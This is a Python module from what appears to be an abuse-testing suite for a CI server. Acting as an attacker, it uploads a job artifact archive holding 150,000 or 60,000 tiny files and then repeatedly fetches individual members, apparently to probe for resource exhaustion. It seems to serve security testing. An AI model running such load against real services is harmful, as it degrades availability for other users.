"""Artifacts made to be dear."""

from collections import Counter

from scripts.abuse import jobs
from scripts.abuse.place import Place, again_and_again, read_all, session

FILE = "job:\n  script: ['true']\n  artifacts:\n    paths: [files]\n"


async def artifact_members(place: Place, answers: "Counter[str]") -> None:
    """One archive of very many files, of which one after the other is read."""
    async with session(place.as_attacker) as http:
        for members in (150_000, 60_000):
            job = await jobs.running(place, http, FILE)
            files = {f"files/{number:06}.txt": "x" for number in range(members)}
            status = await job.upload(files).send(http)
            answers[f"{members} members {status}"] += 1
            await job.finish().send(http)
            if status == "201":
                break
        urls = f"{place.project(place.mine)}/jobs/{job.id}/artifacts/files/"

        async def fetch(number: int) -> str:
            async with http.get(f"{urls}{number:06}.txt") as answer:
                return await read_all(answer)

        await again_and_again(8, fetch, answers)
